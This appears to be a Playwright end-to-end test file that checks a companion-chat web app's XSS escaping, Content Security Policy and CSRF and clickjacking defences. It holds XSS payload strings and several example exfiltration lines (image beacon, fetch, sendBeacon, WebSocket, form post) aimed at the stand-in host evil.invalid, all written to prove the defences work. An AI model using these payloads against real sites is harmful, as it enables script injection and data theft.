"""What people, models and cards write, shown by the real page in Chromium: text, never markup; and the policy behind it."""

import json
import threading
from collections.abc import Generator
from contextlib import contextmanager
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.e2e.conftest import CHROMIUM, Hub, Person
from tests.e2e.test_browser import browser, opened  # noqa: F401 - a fixture
from tests.fakes.fake_llm import Reply

pytestmark = [
    pytest.mark.e2e,
    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium: apt-get install chromium"),
    # Playwright's own event loop is collected late.
    pytest.mark.filterwarnings("ignore::ResourceWarning"),
    pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning"),
]
EVIL = "http://evil.invalid"
# Short enough for a name; each would call hacked() or ask the evil host if it were ever more than text.
NAME = "<img src=x onerror=hacked()>"
MARKUP = (
    f'<script>hacked()</script><img src="{EVIL}/i" onerror="hacked()"><svg onload=hacked()>'
    f'<iframe src="javascript:parent.hacked()"></iframe><a href="javascript:hacked()">x</a>'
    f"</textarea></title></style>{{{{constructor.constructor('hacked()')()}}}}"
)
MARKDOWN = (
    f"![picture]({EVIL}/i.png) [link](javascript:hacked()) [data](data:text/html,<script>hacked()</script>) "
    f"<javascript:hacked()> **<b onclick=hacked()>bold</b>** `<img src=x onerror=hacked()>`\n\n"
    f"> <img src=x onerror=hacked()>\n\n[ref]: {EVIL}/x\n\n<style>@import url({EVIL}/s)</style> {MARKUP}"
)
# Anything in the page that we did not put there: none of these is made by our own code with such an address or handler.
PLANTED = """() => [...document.querySelectorAll("script:not([src]), iframe, object, embed, base, svg[onload], style, form[action]"
  + ", [onerror], [onclick], [onload], [href^='javascript:'], [href^='data:'], [src*='evil'], [href*='evil'], img[src='x']")]
  .map((element) => element.outerHTML.slice(0, 120))"""


@contextmanager
def watched(hub: Hub, running: Browser, person: Person) -> Generator[tuple[Page, list[str]]]:
    """Yield a page whose every script error, CSP report, dialog, planted call and foreign request is noted."""
    context = opened(running, person, user_agent=f"Mozilla/5.0 {NAME}")
    page = context.new_page()
    noted: list[str] = []
    page.expose_function("hacked", lambda: noted.append("a script of theirs ran"))
    page.on("pageerror", lambda error: noted.append(str(error)))
    page.on("dialog", lambda dialog: noted.append(f"dialog {dialog.message}"))  # which keeps the page waiting: it fails
    page.on("console", lambda m: noted.append(m.text) if "Content Security Policy" in m.text else None)
    page.on("request", lambda r: noted.append(r.url) if not r.url.startswith((hub.url, "data:", "blob:")) else None)
    try:
        yield page, noted
    finally:
        context.close()


def look(page: Page, noted: list[str], where: str) -> None:
    page.wait_for_timeout(150)  # an image that fails to load says so a moment later
    assert page.evaluate(PLANTED) == [], where
    assert noted == [], where


def test_nothing_anybody_writes_is_more_than_text(hub: Hub, browser: Browser) -> None:  # noqa: F811
    person = hub.person()
    person.http.patch("me", json={"name": NAME}).raise_for_status()
    card = {
        "spec": "chara_card_v3", "spec_version": "3.0",
        "data": {
            "name": NAME, "first_mes": MARKDOWN, "description": MARKUP, "personality": MARKUP, "scenario": MARKUP,
            "creator_notes": MARKUP, "mes_example": MARKUP, "tags": [MARKUP], "creator": MARKUP,
            "alternate_greetings": [MARKUP], "system_prompt": MARKUP, "post_history_instructions": MARKUP,
        },
    }  # fmt: skip
    made = person.http.post(
        "companions/import", content=json.dumps(card), headers={"Content-Type": "application/octet-stream"}
    ).raise_for_status()
    companion = made.json()["id"]
    memory = person.http.post(f"companions/{companion}/memories", json={"text": f"Likes {MARKUP}"[:480]})
    memory.raise_for_status()
    hub.llm.script(Reply(MARKDOWN))
    assert person.talk(companion, MARKDOWN, want_image=True)["status"] == "done"
    hub.llm.script(Reply(f"*puts on a {NAME} dress* {MARKUP}"))
    assert person.talk(companion, f"*hands you a {NAME} coat*")["status"] == "done"

    with watched(hub, browser, person) as (page, noted):
        page.goto(f"{hub.url}/")
        expect(page.get_by_role("link", name=NAME).first).to_be_visible(timeout=30_000)
        look(page, noted, "companions")
        page.get_by_role("button", name="Search").click()
        page.get_by_label("Words to find").fill("picture")
        expect(page.locator("mark", has_text="picture").first).to_be_visible(timeout=30_000)
        look(page, noted, "search")
        page.goto(f"{hub.url}/chat/{companion}")
        log = page.get_by_role("log")
        expect(log).to_contain_text("onerror=hacked()", timeout=30_000)
        expect(page.get_by_role("button", name="Write another version")).to_be_enabled(timeout=30_000)
        look(page, noted, "chat")
        page.get_by_role("button", name="More").last.click()
        page.get_by_role("button", name="What the model was told").click()
        expect(page.get_by_role("list", name="Messages")).to_contain_text("hacked()")
        look(page, noted, "prompt")
        page.get_by_role("button", name="Close").click()
        page.get_by_role("button", name=f"What {NAME} remembers").click()
        expect(page.get_by_role("textbox", name="Memory", exact=True).first).to_be_visible()
        look(page, noted, "memories")
        page.keyboard.press("Escape")
        hub.llm.script(
            Reply(
                chunks=["<im", "g src=x one", "rror=hac", "ked()> ", "<scr", "ipt>hacked()</scr", "ipt> str", "eamed"],
                chunk_delay_s=0.1,
            )
        )
        page.get_by_role("textbox", name="Message to").fill(MARKUP)
        page.keyboard.press("Enter")
        expect(log).to_contain_text("<script>hacked()</script> streamed", timeout=30_000)
        expect(page.get_by_role("button", name="Write another version")).to_be_enabled(timeout=30_000)
        look(page, noted, "streaming")
        for path in (f"gallery/{companion}", f"companions/{companion}/edit", "settings"):
            page.goto(f"{hub.url}/{path}")
            expect(page.get_by_role("heading").first).to_be_visible(timeout=30_000)
            page.wait_for_load_state("networkidle")
            look(page, noted, path)


# What a flaw in the page's own code would let somebody do, done from inside, and the directive that has to stop it.
BREACHES = {
    "inline script": (
        "s = document.createElement('script'); s.textContent = 'hacked()'; document.head.append(s)",
        ("script-src", "require-trusted-types-for"),
    ),
    "script of another host": (
        f"s = document.createElement('script'); s.src = '{EVIL}/s.js'; document.head.append(s)",
        ("script-src", "require-trusted-types-for"),
    ),
    "markup": ("document.body.innerHTML = '<img src=x onerror=hacked()>'", ("require-trusted-types-for",)),
    # In a timer: what a debugger itself evaluates may use eval in spite of the policy.
    "eval": ("setTimeout(() => { try { (0, eval)('hacked()') } catch {} }, 0)", ("script-src", "require-trusted-types-for")),
    "text as a timer": ("setTimeout('hacked()', 0)", ("script-src", "require-trusted-types-for")),
    "a policy of its own": ("trustedTypes.createPolicy('mine', {createHTML: (x) => x})", ("trusted-types",)),
    "handler": ("document.body.setAttribute('onclick', 'hacked()'); document.body.click()", ("script-src", "require-trusted-types-for")),
    "picture as a messenger": (f"new Image().src = '{EVIL}/?' + document.title", ("img-src",)),
    "fetch": (f"fetch('{EVIL}/', {{mode: 'no-cors'}}).catch(() => 0)", ("connect-src",)),
    "beacon": (f"navigator.sendBeacon('{EVIL}/', 'x')", ("connect-src",)),
    "socket": (f"new WebSocket('{EVIL.replace('http', 'ws')}/')", ("connect-src",)),
    "style of another host": (
        f"l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '{EVIL}/s.css'; document.head.append(l)",
        ("style-src",),
    ),
    "frame": (f"f = document.createElement('iframe'); f.src = '{EVIL}/'; document.body.append(f)", ("frame-src", "default-src")),
    "form": (
        f"f = document.createElement('form'); f.action = '{EVIL}/'; document.body.append(f); f.submit()",
        ("form-action",),
    ),
    "base": (f"b = document.createElement('base'); b.href = '{EVIL}/'; document.head.append(b)", ("base-uri",)),
    "worker": ("try { new Worker('data:text/javascript,0') } catch {}", ("worker-src", "script-src", "require-trusted-types-for")),
    "plug-in": (f"o = document.createElement('object'); o.data = '{EVIL}/x'; document.body.append(o)", ("object-src", "default-src", "require-trusted-types-for")),
}  # fmt: skip
# Waits for the report of what was just tried; the attempt itself may raise.
TRY = """(attempt) => new Promise((resolve) => {
  document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), {once: true});
  setTimeout(() => resolve("nothing stopped it"), 3000);
  try { attempt() } catch {}
})"""


def test_policy_stops_what_a_flaw_in_the_page_would_let_in(hub: Hub, browser: Browser) -> None:  # noqa: F811
    """The second wall: each breach is made from inside the page, and the browser says which directive stopped it."""
    person = hub.person()
    context = opened(browser, person)
    page = context.new_page()
    ran: list[str] = []
    asked: list[str] = []
    page.expose_function("hacked", lambda: ran.append("hacked"))
    context.on("requestfinished", lambda request: asked.append(request.url) if "evil" in request.url else None)
    stopped: dict[str, str] = {}
    page.goto(f"{hub.url}/settings")
    expect(page.get_by_role("heading", name="Settings")).to_be_visible(timeout=30_000)
    for name, (code, _) in BREACHES.items():
        stopped[name] = page.evaluate(f"({TRY})(() => {{ let s, l, f, b, o; {code} }})")
    context.close()
    assert {name: by for name, by in stopped.items() if not by.startswith(BREACHES[name][1])} == {}
    assert ran == []
    assert asked == []


class _Quiet(SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: Any) -> None:
        """Quiet."""


def test_page_of_another_origin_can_neither_frame_the_hub_nor_act_as_its_user(
    hub: Hub,
    browser: Browser,  # noqa: F811
    tmp_path: Path,
) -> None:
    """Clickjacking and CSRF by a real browser that is logged in: another port of this machine is another origin."""
    person = hub.person()
    companion = person.companion()["id"]
    (tmp_path / "index.html").write_text(
        f'<form id=f method=post action="{hub.url}/api/auth/logout-all" enctype="text/plain"><input name=x></form>'
        f'<iframe id=frame src="{hub.url}/chat/{companion}"></iframe><img src="{hub.url}/api/me">'
    )
    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(_Quiet, directory=str(tmp_path)))
    threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
    context = opened(browser, person)
    page = context.new_page()
    page.goto(f"http://localhost:{server.server_address[1]}/")
    outcome = page.evaluate(
        """async ([url, companion]) => {
          const told = async (path, options) => {
            try { return (await fetch(url + path, {credentials: "include", ...options})).status } catch { return "refused" }
          };
          const marked = {method: "DELETE", headers: {"X-Requested-With": "companion-hub"}};
          return [
            await told("/api/me", {}),
            await told("/api/companions/" + companion, marked),
            await told("/api/auth/logout-all", {method: "POST", mode: "no-cors"}),
            await new Promise((resolve) => {
              const socket = new WebSocket(url.replace("http", "ws") + "/ws");
              socket.onopen = () => resolve("open");
              socket.onerror = () => resolve("refused");
            }),
          ];
        }""",
        [hub.url, companion],
    )
    # A request without CORS is sent all the same; what it did is looked at below.
    assert outcome == ["refused"] * 4
    framed = page.frame_locator("#frame").get_by_role("log")
    expect(framed).to_have_count(0)
    page.evaluate("document.getElementById('f').submit()")
    page.wait_for_load_state()
    context.close()
    server.shutdown()
    server.server_close()
    assert person.http.get("me").status_code == 200, "logged out by a foreign page"
    assert person.http.get(f"companions/{companion}").status_code == 200
